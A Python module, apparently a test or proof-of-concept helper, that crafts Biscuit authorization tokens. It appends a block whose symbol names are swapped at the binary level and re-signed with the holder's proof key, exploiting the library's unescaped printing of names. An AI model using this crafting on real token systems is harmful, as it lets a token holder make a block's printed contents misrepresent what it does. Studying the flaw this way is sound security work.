"""Blocks that no builder would make: a holder has what it takes to sign any bytes as the next block of its token.

The library prints names without escaping them, so a name can be made to look like something else. Here a block is built
as usual and its names are swapped for others before it is signed, at the level of the binary format.
"""

import base64
import struct
from typing import Any

from biscuit_auth import Biscuit, BlockBuilder
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

AUTHORITY, BLOCKS, PROOF = 2, 3, 4
BLOCK, NEXT_KEY, SIGNATURE = 1, 2, 3
SYMBOLS = 1

Fields = list[tuple[int, Any]]


def append_crafted(token: Biscuit, source: str, names: dict[str, str]) -> str:
    """The token with a block of `source`, in which each name is swapped."""
    fields = _read(bytes(token.to_bytes()))
    built = _read(bytes(token.append(BlockBuilder(source)).to_bytes()))
    signed = _read([value for number, value in built if number == BLOCKS][-1])
    swapped = [
        (number, names.get(value.decode(), value.decode()).encode() if number == SYMBOLS else value)
        for number, value in _read(dict(signed)[BLOCK])
    ]
    block = _written(swapped)
    secret = dict(_read(dict(fields)[PROOF]))[1]
    following = Ed25519PrivateKey.generate()
    key = following.public_key().public_bytes_raw()
    signature = Ed25519PrivateKey.from_private_bytes(secret).sign(block + struct.pack("<i", 0) + key)
    appended = _written([(BLOCK, block), (NEXT_KEY, _written([(1, 0), (2, key)])), (SIGNATURE, signature)])
    kept = [(number, value) for number, value in fields if number != PROOF]
    proof = _written([(1, following.private_bytes_raw())])
    return base64.urlsafe_b64encode(_written([*kept, (BLOCKS, appended), (PROOF, proof)])).decode()


def _read(data: bytes) -> Fields:
    fields: Fields = []
    at = 0
    while at < len(data):
        tag, at = _number(data, at)
        value, at = _number(data, at)
        if tag & 7 == 2:
            fields.append((tag >> 3, data[at : at + value]))
            at += value
        else:
            fields.append((tag >> 3, value))
    return fields


def _number(data: bytes, at: int) -> tuple[int, int]:
    number = shift = 0
    while True:
        byte = data[at]
        number, shift, at = number | (byte & 0x7F) << shift, shift + 7, at + 1
        if byte < 0x80:
            return number, at


def _written(fields: Fields) -> bytes:
    return b"".join(
        _varint(number << 3) + _varint(value)
        if isinstance(value, int)
        else _varint(number << 3 | 2) + _varint(len(value)) + value
        for number, value in fields
    )


def _varint(number: int) -> bytes:
    pieces = []
    while number >= 0x80:
        pieces.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*pieces, number])
